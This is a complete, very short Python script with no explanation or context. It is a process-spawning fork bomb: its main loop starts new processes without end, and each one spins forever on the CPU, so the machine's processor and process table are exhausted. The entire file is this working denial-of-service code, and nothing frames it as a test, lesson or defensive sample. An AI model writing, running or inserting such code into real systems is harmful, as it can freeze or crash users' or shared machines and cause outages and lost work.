import multiprocessing

def spin():
    while True:
        pass

if __name__ == "__main__":
    while True:
        multiprocessing.Process(target=spin).start()
